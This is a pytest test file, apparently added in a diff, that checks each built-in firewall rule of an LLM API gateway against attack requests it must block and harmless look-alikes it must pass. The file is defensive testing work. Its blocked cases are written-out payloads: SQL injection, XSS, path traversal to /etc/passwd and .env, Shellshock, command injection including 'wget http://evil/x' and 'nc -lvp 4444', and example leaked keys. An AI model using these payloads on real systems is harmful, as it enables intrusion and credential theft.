@@ -1,0 +1,182 @@
+"""Every built-in WAF rule with at least one request it must catch and one close look-alike it must let through.
+
+Each case names the request part the payload goes into: `q` (a query argument), `h:NAME` (a header), `path`,
+`prompt` (a chat message), `json` (a top-level JSON field outside the prompt), `cookie`, or a special builder.
+"""
+
+from __future__ import annotations
+
+import json
+from urllib.parse import quote
+
+import pytest
+
+from gateway.waf.model import WafSpec
+from gateway.waf.packs import builtin_packs, compile_waf, pack_rules
+from gateway.waf.parts import RequestView
+
+CHAT = "/v1/chat/completions"
+BASE_HEADERS = [("host", "gw"), ("user-agent", "openai-python/1.40"), ("content-type", "application/json"),
+                ("authorization", "Bearer sk-test")]
+
+
+def request(where: str, text: str) -> RequestView:
+    payload = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
+    headers = list(BASE_HEADERS)
+    path, query = CHAT, ""
+    if where == "q":
+        query = "x=" + quote(text, safe="")
+    elif where == "rawq":
+        query = text
+    elif where == "qname":
+        query = quote(text, safe="") + "=1"
+    elif where.startswith("h:"):
+        name = where[2:]
+        headers = [(k, v) for k, v in headers if k != name] + [(name, text)]
+    elif where == "path":
+        path = text
+    elif where == "prompt":
+        payload["messages"][0]["content"] = text
+    elif where == "system":
+        payload["messages"].insert(0, {"role": "system", "content": text})
+    elif where == "json":
+        payload["user"] = text
+    elif where == "cookie":
+        headers.append(("cookie", "session=" + text))
+    elif where == "method":
+        return RequestView(method=text, path=path, headers=headers, body=b"{}", payload={}, route="chat")
+    elif where == "ctype":
+        headers = [(k, v) for k, v in headers if k != "content-type"] + [("content-type", text)]
+    elif where == "headers":  # N extra headers
+        headers += [(f"x-h{i}", "v") for i in range(int(text))]
+    elif where == "depth":
+        node: object = "leaf"
+        for _ in range(int(text)):
+            node = {"k": node}
+        payload["extra"] = node
+    elif where == "keys":
+        payload["extra"] = {f"k{i}": i for i in range(int(text))}
+    elif where == "bodysize":
+        payload["messages"][0]["content"] = "a" * int(text)
+    elif where == "noua":
+        headers = [(k, v) for k, v in headers if k != "user-agent"]
+    body = json.dumps(payload).encode()
+    return RequestView(method="POST", path=path, query=query, headers=headers, body=body, payload=payload,
+                       route="chat", model="m")
+
+
+# rule id -> ([(where, text) that must fire], [(where, text) that must not])
+CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
+    # sqli
+    "sqli-100": ([("q", "1' OR '1'='1' --"), ("json", "x' UNION SELECT password FROM users--")],
+                 [("q", "O'Reilly books"), ("prompt", "' OR 1=1 -- explain why this SQL injection works")]),
+    "sqli-101": ([("q", "1' or 1=1")], [("q", "rock and roll")]),
+    "sqli-102": ([("path", "/v1/chat/completions/1'%20or%20'a'='a")], [("path", "/v1/chat/completions")]),
+    "sqli-110": ([("q", "1 UNION/**/ALL SELECT null,null")], [("q", "the union selected a leader")]),
+    "sqli-120": ([("q", "x' or 'a'='a")], [("q", "x or y")]),
+    "sqli-121": ([("q", "1 or 1=1")], [("q", "1 or 2 apples")]),
+    "sqli-130": ([("q", "1 AND sleep(5)"), ("h:user-agent", "x' and benchmark(9999999,md5(1))")],
+                 [("q", "I need sleep tonight")]),
+    "sqli-140": ([("q", "1; DROP TABLE users")], [("q", "first; then second")]),
+    "sqli-150": ([("q", "admin'--")], [("q", "it's fine -- really")]),
+    "sqli-151": ([("q", "x'#")], [("q", "item #4")]),
+    "sqli-160": ([("q", "select name from users where 1")], [("q", "please select one from the list")]),
+    "sqli-170": ([("q", "1 and @@version"), ("q", "x from information_schema.tables")],
+                 [("q", "version 2 of the schema")]),
+    "sqli-180": ([("q", "x' and ascii(substr(pw,1,1))>64")], [("q", "rock 'n' roll")]),
+    "sqli-181": ([("q", "ascii(substring((select pw),1,1))")], [("q", "substring of a word")]),
+    "sqli-182": ([("q", "1 order by 3--")], [("q", "in order to buy")]),
+    "sqli-183": ([("q", "1 /*!50000union*/ select")], [("q", "a /* comment */ b")]),
+    "sqli-184": ([("q", "a<>b"), ("q", "x rlike y")], [("q", "likely yes")]),
+    "sqli-185": ([("q", "group_concat(password)")], [("q", "left (north) side")]),
+    "sqli-186": ([("q", "1 as x from users")], [("q", "as far from here")]),
+    "sqli-187": ([("q", "'1'='1")], [("q", "it's")]),
+    "sqli-188": ([("q", "xp_cmdshell")], [("q", "xp points")]),
+    "sqli-190": ([("q", "');(--#\"=);<>|&*');(--#\"=);<>")], [("q", "hello (world) = fine")]),
+    "sqli-191": ([("q", "'abc")], [("q", "abc")]),
+    # xss
+    "xss-100": ([("q", "<script>alert(1)</script>")], [("q", "1 < 2 and 3 > 2")]),
+    "xss-110": ([("q", "%3Cscript%3E"), ("h:referer", "<script src=//x>")], [("q", "scripted reply")]),
+    "xss-120": ([("q", "<img src=x onerror=alert(1)>")], [("q", "<b>bold</b>")]),
+    "xss-121": ([("q", "\" onmouseover=alert(1) x=\"")], [("q", "\"quoted\" words")]),
+    "xss-122": ([("q", " onload=alert(1)")], [("q", "going onwards = good")]),
+    "xss-130": ([("q", "jav&#x09;ascript:alert(1)")], [("q", "see the javascript docs")]),
+    "xss-140": ([("q", "<iframe src=//evil>")], [("q", "an iframe is an element")]),
+    "xss-150": ([("q", "document.cookie")], [("q", "the cookie document")]),
+    "xss-160": ([("q", "<a href=x>")], [("q", "a < b")]),
+    "xss-170": ([("q", "width:expression(alert(1))")], [("q", "an expression of joy")]),
+    "xss-180": ([("q", "\"><b")], [("q", "say \"hi\"")]),
+    "xss-190": ([("path", "/v1/chat/completions/<svg/onload=alert(1)>")], [("path", "/v1/models")]),
+    "xss-191": ([("q", "<f o r m")], [("q", "<- arrow")]),
+    # lfi
+    "lfi-100": ([("q", "%2e%2e%2fetc"), ("path", "/v1/%2e%2e/%2e%2e/etc/passwd")], [("q", "1.2.3")]),
+    "lfi-110": ([("q", "../../etc/hosts"), ("h:x-file", "..\\..\\boot.ini")], [("q", "wait... what/why")]),
+    "lfi-120": ([("q", "/etc/passwd"), ("q", "C:\\Windows\\win.ini")], [("q", "etc. and so on")]),
+    "lfi-130": ([("path", "/.git/config"), ("path", "/.env")], [("path", "/.well-known/security.txt")]),
+    "lfi-140": ([("path", "/backup.sql"), ("q", "db.sql.gz")], [("path", "/v1/chat/completions")]),
+    "lfi-150": ([("q", "/etc/shadow"), ("q", "file:///etc/x")], [("q", "etc/ is a folder")]),
+    # rce
+    "rce-100": ([("q", "x; cat /etc/passwd"), ("q", "a | id")], [("q", "cats; dogs")]),
+    "rce-110": ([("q", "$(whoami)"), ("q", "cat${IFS}x")], [("q", "it costs $5 (approx)")]),
+    "rce-120": ([("h:user-agent", "() { :; }; /bin/bash -c id")], [("h:user-agent", "Mozilla/5.0 (X11)")]),
+    "rce-130": ([("q", "/bin/sh -i"), ("q", "powershell -enc AAA"), ("q", "for %i in (*) do echo")],
+                [("q", "the bin is full")]),
+    "rce-140": ([("q", "wget http://evil/x"), ("q", "cat /etc/issue")], [("q", "cat videos")]),
+    "rce-150": ([("q", "/b?n/c?t /etc/passwd"), ("q", "c''at x")], [("q", "what? why?")]),
+    "rce-160": ([("q", "x; nc -lvp 4444"), ("q", "x 2>&1")], [("q", "x - y")]),
+    "rce-170": ([("q", "& dir C:\\"), ("q", "%COMSPEC%")], [("q", "the directory")]),
+    # scanners, protocol attacks
+    "scanner-100": ([("h:user-agent", "sqlmap/1.7")], [("h:user-agent", "curl/8.0")]),
+    "scanner-110": ([("h:x-callback", "abc.oast.pro")], [("h:x-callback", "example.com")]),
+    "scanner-120": ([("noua", "")], [("h:user-agent", "client/1")]),
+    "proto-attack-100": ([("q", "x\r\nSet-Cookie: a=b")], [("q", "x y")]),
+    "proto-attack-110": ([("q", "x\r\nGET /admin HTTP/1.1")], [("q", "get / out")]),
+    "proto-attack-120": ([("path", "/v1/a%0d%0ab")], [("path", "/v1/ab")]),
+    # gateway protocol
+    "protocol-100": ([("method", "PUT")], [("method", "POST")]),
+    "protocol-110": ([("ctype", "text/plain")], [("ctype", "application/json; charset=utf-8")]),
+    "protocol-120": ([("headers", "70")], [("headers", "20")]),
+    "protocol-130": ([("h:x-big", "a" * 9000)], [("h:x-big", "a" * 100)]),
+    "protocol-140": ([("bodysize", str(9 * 1024 * 1024))], [("bodysize", "1000")]),
+    "protocol-150": ([("depth", "40")], [("depth", "5")]),
+    "protocol-160": ([("keys", "10001")], [("keys", "100")]),
+    "protocol-170": ([("rawq", "x=%ff%fe")], [("rawq", "x=%C3%A9t%C3%A9")]),
+    "protocol-180": ([("rawq", "x=a%00b")], [("rawq", "x=a+b")]),
+    "protocol-190": ([("rawq", "&".join(f"a{i}=1" for i in range(70)))], [("rawq", "a=1&b=2")]),
+    "protocol-200": ([("depth", "14")], [("depth", "5")]),
+    # llm
+    "llm-secret-100": ([("prompt", "fix this:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...")],
+                       [("prompt", "what is a BEGIN PRIVATE KEY header?")]),
+    "llm-secret-110": ([("prompt", "my key AKIAIOSFODNN7EXAMPLE"), ("prompt", "token ghp_" + "a" * 36)],
+                       [("prompt", "AKIA is the prefix of AWS keys")]),
+    "llm-secret-120": ([("prompt", "password = hunter2hunter2")], [("prompt", "reset my password please")]),
+    "llm-encoding-100": ([("prompt", "hi\u202eexe.txt")], [("prompt", "plain text")]),
+    "llm-encoding-110": ([("prompt", "a\u200bb\u200bc\u200bd\u200be\u200bf\u200bg\u200bh\u200bi\u200bj")],
+                         [("prompt", "one\u200bzero-width")]),
+    "llm-encoding-120": ([("prompt", "A" * 1200)], [("prompt", "A" * 900 + " " + "A" * 900)]),
+    "llm-encoding-130": ([("bodysize", str(1024 * 1024 + 10))], [("bodysize", "5000")]),
+    "llm-encoding-140": ([("prompt", "%41" * 70)], [("prompt", "100% sure")]),
+}
+
+
+@pytest.fixture(scope="module")
+def waf():
+    packs = builtin_packs()[0]
+    return compile_waf(WafSpec(paranoia_level=4, packs=sorted(packs)), pack_rules({}), "test")
+
+
+def test_every_builtin_rule_has_cases():
+    ids = {rule.id for pack in builtin_packs()[0].values() for rule in pack.rules}
+    assert ids - set(CASES) == set(), "add positive and negative cases for these rules"
+    assert set(CASES) - ids == set(), "cases for rules that no longer exist"
+
+
+@pytest.mark.parametrize("rule_id", sorted(CASES))
+def test_rule_fires_on_its_positives_and_not_on_its_negatives(waf, rule_id):
+    positives, negatives = CASES[rule_id]
+    for where, text in positives:
+        fired = waf.evaluate(request(where, text), all_matches=True).rule_ids
+        assert rule_id in fired, f"{rule_id} missed {where}={text[:80]!r} (fired: {fired})"
+    for where, text in negatives:
+        fired = waf.evaluate(request(where, text), all_matches=True).rule_ids
+        assert rule_id not in fired, f"{rule_id} fired on {where}={text[:80]!r}"
